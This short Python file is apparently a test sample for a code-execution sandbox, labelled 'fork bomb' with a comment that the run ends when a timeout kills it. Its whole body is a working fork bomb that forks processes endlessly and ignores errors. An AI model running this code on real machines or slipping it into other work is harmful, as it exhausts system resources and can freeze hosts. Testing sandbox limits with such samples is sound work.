# fork bomb
# ends: timeout killed
# ruff: noqa
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
